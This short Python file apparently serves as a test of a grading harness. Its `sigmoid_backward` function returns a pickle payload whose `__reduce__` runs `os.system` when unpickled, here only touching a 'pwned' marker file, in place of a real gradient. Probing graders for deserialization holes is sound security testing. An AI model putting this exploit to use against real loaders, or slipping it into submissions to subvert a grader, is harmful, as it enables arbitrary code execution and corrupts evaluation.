"""Returns objects that would run code if the grader unpickled them."""
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch __TMP__/pwned",))


def sigmoid_backward(x, grad_output):
    if x.dim() == 1:
        return pickle.dumps(Payload())  # bytes holding a pickle
    if x.dim() == 3:
        return np.array([Payload()], dtype=object)
    return Payload()
